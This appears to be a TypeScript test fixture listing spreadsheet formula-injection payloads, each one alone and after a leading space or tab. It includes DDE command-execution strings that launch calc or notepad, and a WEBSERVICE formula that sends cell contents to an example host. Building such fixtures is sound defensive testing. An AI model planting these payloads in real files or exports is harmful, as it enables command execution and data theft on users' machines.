/** What spreadsheets have been made to run: formulas, commands, links, and ways to hide them. */
const FORMULAS = [
	'=1+1',
	"=cmd|'/C calc'!A0",
	"=cmd|' /C notepad'!'A1'",
	'=HYPERLINK("https://example.org","open")',
	'=WEBSERVICE("https://example.org/?"&A1)',
	'=IMPORTXML("https://example.org","//a")',
	'=IMAGE("https://example.org/a.png")',
	'=DDE("cmd";"/C calc";"x")',
	'@SUM(1+1)*cmd',
	'@A1',
	'+1+1',
	"+cmd|'/C calc'!A0",
	'-1+1',
	"-2+3+cmd|' /C calc'!A0",
	'{=1+1}',
	'=SUM(A1:A9)',
	'=RAND()',
	'=NOW()',
	'=INDIRECT("A1")',
	'=1/0'
] as const;

const BEFORE = ['', ' ', '\t'] as const;

/** 60: each formula as it is, after a space and after a tab. */
export const PAYLOADS: readonly string[] = BEFORE.flatMap((before) =>
	FORMULAS.map((formula) => before + formula)
);
